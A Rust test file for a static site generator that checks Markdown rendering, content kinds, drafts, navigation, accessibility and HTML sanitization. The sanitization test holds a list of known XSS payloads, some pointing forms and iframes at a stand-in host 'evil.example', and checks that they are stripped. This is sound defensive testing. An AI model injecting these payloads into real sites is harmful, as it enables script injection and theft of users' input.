//! Content features: sections and cascade, bundles and static files, kinds, Markdown,
//! drafts, navigation, template overrides.

use crate::support::*;
use cairn::BuildSettings;
use cairn::model::BuildOptions;

const HOME: &str = "-- content/_index.md --\n+++\ntitle = \"Home\"\n+++\nWelcome.\n";

#[test]
fn markdown_features_and_code_highlighting() {
    let site = TestSite::new(&format!(
        "{HOME}-- content/doc.md --\n+++\ntitle = \"Doc\"\n+++\n{}",
        r#"## Check the download {#verify .important data-level=2 onclick=alert(1)}

| Step | Command |
|------|---------|
| 1    | `sha256sum` |

- [x] done
- [ ] todo

~~old~~ "quoted" text[^1]

[^1]: A footnote.

```sh
sha256sum -c SHA256SUMS
```

## Check the download

### Même titre — été
"#
    ));
    site.built();
    let page = site.html("doc/index.html");
    let h2 = select(&page, ".content h2");
    assert_eq!(attr(h2[0], "id"), "verify");
    assert_eq!(attr(h2[0], "class"), "important");
    assert_eq!(attr(h2[0], "data-level"), "2");
    assert!(h2[0].value().attr("onclick").is_none(), "event handler attributes are dropped");
    assert_eq!(attr(h2[1], "id"), "check-the-download");
    assert_eq!(attr(one(&page, ".content h3"), "id"), "même-titre-été");
    assert_eq!(select(&page, ".content table").len(), 1);
    assert_eq!(select(&page, ".content li .task").len(), 2);
    assert_eq!(select(&page, ".content li .task.done").len(), 1);
    assert_eq!(select(&page, ".content del").len(), 1);
    assert!(text(select(&page, ".content p")[0]).contains("“quoted”"), "smart punctuation");
    assert_eq!(select(&page, ".content .footnote-definition").len(), 1);
    let code = one(&page, "pre.code[data-lang=sh]");
    assert!(!select(&page, "pre.code[data-lang=sh] span[class^=hl-]").is_empty(), "highlight classes");
    assert!(code.html().find("style=").is_none(), "no inline styles");
    assert!(site.read("css/highlight.css").contains(".hl-"));
    // One h1; the table of contents is a nav listing the headings.
    assert_eq!(select(&page, "h1").len(), 1);
    let toc: Vec<String> = select(&page, "nav.toc a").iter().map(|a| attr(*a, "href")).collect();
    assert_eq!(toc, ["#verify", "#check-the-download", "#même-titre-été"]);
}

#[test]
fn kinds_show_their_typed_fields_through_their_own_template() {
    let site = TestSite::new(&format!(
        "{HOME}{}",
        r#"-- content/training/_index.md --
+++
title = "Training"
kind = "training"
license = "CC0-1.0"
+++
-- content/training/phones.md --
+++
title = "Phones"
[training]
duration = "90 min"
audience = "new organizers"
objectives = ["Lock a phone", "Spot risky apps"]
materials = ["A phone"]
+++
-- content/cases/one.md --
---
title: "A case"
kind: case-study
case-study:
  location: "A port town"
  lessons: ["Ask first"]
---
Text.
"#
    ));
    site.built();
    let page = site.html("training/phones/index.html");
    assert_eq!(attr(one(&page, "article"), "class"), "page kind-training");
    let fields: Vec<String> = select(&page, ".training-fields dt").iter().map(|d| text(*d)).collect();
    assert_eq!(fields, ["Duration", "Audience", "Objectives", "Materials"]);
    assert_eq!(select(&page, ".training-fields li").len(), 3);
    assert_eq!(text(one(&page, ".kind-label")), "Training module");
    assert!(text(one(&page, ".license")).contains("CC0-1.0"), "licence cascades from the section");
    let case = site.html("cases/one/index.html");
    assert_eq!(text(select(&case, ".case-study-fields dd")[0]), "A port town");
    assert!(text(one(&site.html("index.html"), ".license")).contains("CC-BY-4.0"), "site licence");
}

#[test]
fn wrong_kind_table_is_an_error() {
    let site = TestSite::new(&format!(
        "{HOME}-- content/p.md --\n+++\ntitle = \"P\"\nkind = \"playbook\"\n[training]\nduration = \"1h\"\n+++\n"
    ));
    let errors = errors_of(site.build());
    assert!(errors.contains("[training] fields on a page of kind `playbook`"), "{errors}");
    assert!(errors.contains("content/p.md"), "{errors}");
}

#[test]
fn bundles_static_files_and_root_absolute_references() {
    let site = TestSite::new(&format!(
        "{HOME}{}",
        r#"-- content/training/kit/index.md --
+++
title = "Kit"
+++
![Diagram](diagram.svg) and ![Logo](/images/logo.svg)
-- content/training/kit/index.fr.md --
+++
title = "Trousse"
+++
![Schéma](diagram.svg) et ![Logo](/images/logo.svg)
-- content/training/kit/diagram.svg --
<svg xmlns="http://www.w3.org/2000/svg"/>
-- static/images/logo.svg --
<svg xmlns="http://www.w3.org/2000/svg"/>
"#
    ));
    site.built();
    assert!(site.out().join("training/kit/diagram.svg").exists());
    assert!(site.out().join("images/logo.svg").exists());
    let fr = site.html("fr/training/kit/index.html");
    let srcs: Vec<String> = select(&fr, ".content img").iter().map(|i| attr(*i, "src")).collect();
    assert_eq!(srcs, ["../../../training/kit/diagram.svg", "../../../images/logo.svg"]);
    for src in srcs {
        assert!(site.out().join("fr/training/kit").join(src).exists());
    }
}

#[test]
fn missing_image_is_a_warning_and_an_error_when_strict() {
    let site = TestSite::new(&format!("{HOME}-- content/p.md --\n+++\ntitle = \"P\"\n+++\n\nText\n\n![x](nope.png)\n"));
    let built = site.built();
    let warnings = render(&built.warnings);
    assert!(
        warnings.contains("warning: missing image `nope.png`") && warnings.contains("content/p.md:7"),
        "{warnings}"
    );
    let strict = BuildSettings { strict: true, ..Default::default() };
    assert!(errors_of(site.build_with(&strict)).contains("error: missing image"));
}

#[test]
fn drafts_are_left_out_everywhere_unless_asked_for() {
    let site = TestSite::new(&format!(
        "{HOME}{}",
        r#"-- content/s/_index.md --
+++
title = "S"
+++
-- content/s/public.md --
+++
title = "Public"
+++
-- content/s/secret.md --
+++
title = "Secret plan"
draft = true
+++
zorblaxquint
-- content/hidden/_index.md --
+++
title = "Hidden section"
status = "draft"
+++
-- content/hidden/child.md --
+++
title = "Child"
+++
quaffleblimp
"#
    ));
    site.built();
    assert!(!site.out().join("s/secret").exists());
    assert!(!site.out().join("hidden/child").exists(), "a draft section hides its pages");
    for (path, bytes) in snapshot(&site.out()) {
        let text = String::from_utf8_lossy(&bytes);
        assert!(
            !text.contains("zorblaxquint") && !text.contains("Secret plan") && !text.contains("quaffleblimp"),
            "leak in {path}"
        );
    }
    let with_drafts = BuildSettings { options: BuildOptions { drafts: true, internal: false }, ..Default::default() };
    site.build_with(&with_drafts).unwrap();
    assert!(site.read("s/secret/index.html").contains("zorblaxquint"));
    assert_eq!(select(&site.html("s/secret/index.html"), ".draft-notice").len(), 1);
    // A published page may not link to a draft.
    site.write("content/s/public.md", "+++\ntitle = \"Public\"\n+++\nSee [the plan](secret.md).\n");
    let errors = errors_of(site.build());
    assert!(
        errors.contains("link to `secret.md`, which is a draft") && errors.contains("content/s/public.md:4"),
        "{errors}"
    );
}

#[test]
fn navigation_breadcrumbs_listing_order_and_prev_next() {
    let site = TestSite::new(&format!(
        "{HOME}{}",
        r#"-- content/s/_index.md --
+++
title = "Section"
+++
-- content/s/b.md --
+++
title = "Bravo"
weight = 1
+++
-- content/s/a.md --
+++
title = "Alpha"
weight = 1
+++
-- content/s/z.md --
+++
title = "Zulu"
+++
-- content/s/first.md --
+++
title = "Zero"
weight = -5
+++
-- content/s/sub/_index.md --
+++
title = "Sub"
+++
"#
    ));
    site.built();
    let section = site.html("s/index.html");
    let listed: Vec<String> = select(&section, "#cairn-pages + ul a").iter().map(|a| text(*a)).collect();
    assert_eq!(listed, ["Zero", "Alpha", "Bravo", "Zulu"]);
    assert_eq!(text(one(&section, "#cairn-subsections + ul a")), "Sub");
    let alpha = site.html("s/a/index.html");
    assert_eq!(attr(one(&alpha, "a[rel=prev]"), "href"), "../first/");
    assert_eq!(attr(one(&alpha, "a[rel=next]"), "href"), "../b/");
    let crumbs: Vec<String> = select(&alpha, ".breadcrumbs li").iter().map(|l| text(*l)).collect();
    assert_eq!(crumbs, ["Home", "Section", "Alpha"]);
    assert!(select(&site.html("s/first/index.html"), "a[rel=prev]").is_empty());
}

#[test]
fn accessible_structure_and_zero_width_non_joiner_kept() {
    let site = TestSite::new(&format!(
        "{HOME}-- content/p.md --\n+++\ntitle = \"می\u{200C}خواهم\"\n+++\n## بخش\n\nمی\u{200C}روم\n"
    ));
    site.built();
    let page = site.html("p/index.html");
    for landmark in ["header.site-header", "nav.language-switcher", "main#main", "footer", "a.skip-link[href='#main']"]
    {
        one(&page, landmark);
    }
    assert_eq!(text(one(&page, "h1")), "می\u{200C}خواهم");
    assert!(site.read("p/index.html").contains("می\u{200C}روم"));
    // Scripts only enhance (search): deferred files, never inline code the text depends on.
    for script in select(&page, "script:not([type='application/ld+json'])") {
        assert!(script.value().attr("defer").is_some() && script.value().attr("src").is_some(), "{}", script.html());
    }
}

#[test]
fn site_templates_override_the_theme_by_name() {
    let site = TestSite::new(&format!(
        "{HOME}-- templates/page.html --\n{}\n-- content/p.md --\n+++\ntitle = \"P\"\n+++\n",
        r#"{% extends "base.html" %}{% block main %}<p id="custom">{{ page.title }} / {{ t(key="next") }}</p>{% endblock main %}"#
    ));
    site.built();
    assert_eq!(text(one(&site.html("fr/p/index.html"), "#custom")), "P / Suivant");
}

#[test]
fn sections_cascade_kind_and_front_matter_to_translations() {
    let site = TestSite::new(&format!(
        "{HOME}{}",
        r#"-- content/pb/_index.md --
+++
title = "Playbooks"
kind = "playbook"
authors = ["amina"]
+++
-- content/pb/x.md --
+++
title = "X"
date = 2025-01-02
+++
-- content/pb/x.fr.md --
+++
title = "X fr"
translators = ["jo"]
+++
"#
    ));
    site.built();
    let fr = site.html("fr/pb/x/index.html");
    assert_eq!(text(one(&fr, ".kind-label")), "Guide pratique");
    let byline: Vec<String> = select(&fr, ".page-header .byline dd").iter().map(|d| text(*d)).collect();
    assert_eq!(
        byline,
        ["Amina Kader", "Zephyr", "2 janvier 2025"],
        "authors cascade, translator by pseudonym, date inherited"
    );
    assert!(!site.read("fr/pb/x/index.html").contains("Jo Secret"));
}

/// Known XSS payloads a contributor could paste into Markdown (issue 9's list, in part).
const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('x1')</script>",
    "<img src=x onerror=alert('x2')>",
    "<a href=\"javascript:alert('x3')\">click</a>",
    "<iframe src=\"https://evil.example/x4\"></iframe>",
    "<svg onload=alert('x5')><circle r=1 /></svg>",
    "<form action=\"https://evil.example/x6\"><input name=q><button>go</button></form>",
    "<details open ontoggle=alert('x7')><summary>s</summary></details>",
    "<object data=\"https://evil.example/x8.swf\"></object><embed src=\"https://evil.example/x9\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('x10')></style></mglyph></table></mtext></math>",
    "<div style=\"background:url(javascript:alert('x11'))\">styled</div>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/x12\"><base href=\"https://evil.example/\">",
    "<a href=\"jav&#x09;ascript:alert('x13')\">tab</a>",
];

#[test]
fn raw_html_is_sanitized_unless_the_site_opts_out() {
    let body = format!("Safe <kbd>Ctrl</kbd> and <abbr title=\"Signal\">S</abbr>.\n\n{}\n", XSS_PAYLOADS.join("\n\n"));
    let site = TestSite::new(&format!("{HOME}-- content/p.md --\n+++\ntitle = \"P\"\n+++\n{body}"));
    site.built();
    let page = site.html("p/index.html");
    let dangerous = "script, iframe, object, embed, form, input, button, base, meta, style, svg, math";
    assert!(select(&page, &format!(".content :is({dangerous})")).is_empty(), "{}", one(&page, ".content").html());
    for element in select(&page, ".content *") {
        for (name, value) in element.value().attrs() {
            let value: String = value.to_ascii_lowercase().split_whitespace().collect();
            assert!(!name.starts_with("on") && name != "style", "attribute {name} survived: {}", element.html());
            assert!(!value.contains("javascript:") && !value.contains("evil.example"), "{name}={value} survived");
        }
    }
    assert_eq!(text(one(&page, ".content kbd")), "Ctrl", "safe formatting kept");
    assert_eq!(attr(one(&page, ".content abbr"), "title"), "Signal");
    site.write("cairn.toml", &site.read_source("cairn.toml").replace("license =", "unsafe_html = true\nlicense ="));
    site.built();
    assert!(
        site.read("p/index.html").contains("<script>alert('x1')</script>"),
        "unsafe_html keeps raw HTML as written"
    );
}
